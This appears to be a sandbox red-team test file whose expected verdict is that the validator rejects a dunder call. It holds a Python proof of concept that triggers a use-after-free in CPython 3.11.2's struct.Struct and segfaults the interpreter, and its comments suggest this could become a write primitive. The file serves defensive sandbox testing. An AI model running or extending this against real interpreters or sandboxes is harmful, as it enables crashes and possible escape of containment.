# expect: reject dunder
# line: 18
# verified: SIGSEGV (exit 139) under the image's python3.11 (3.11.2), plain and with the runtime wall (red team round 8, near miss nm_03)
#
# nm_03: another memory-safety bug of 3.11.2 reachable under the wall (crash, not weaponised)
#
# struct.Struct.__init__ can be called again on a live Struct; pack_into converts its
# arguments (the program's __index__) while it walks s->s_codes, which the re-init frees
# and replaces. Plain python3 3.11.2 and sb-run (wall7c): SIGSEGV (exit 139), no event.
#   status: error   exit_code: 139   Process killed by signal 11 (SIGSEGV)
# The freed code array is the program's to refill (offsets and sizes of the writes that
# follow): a likely second write primitive; not pursued (ok_01/ok_02 suffice).
import struct
s = struct.Struct("20q")
buf = bytearray(160 * 8)
class I:
    def __index__(self):
        s.__init__("1b")                # frees s_codes while s_pack_internal walks it
        x = [bytes(200) for _ in range(100)]
        return 1
try:
    s.pack_into(buf, 0, I(), *range(19))
    print("packed", bytes(buf[:16]))
except Exception as e:
    print(type(e).__name__, e)
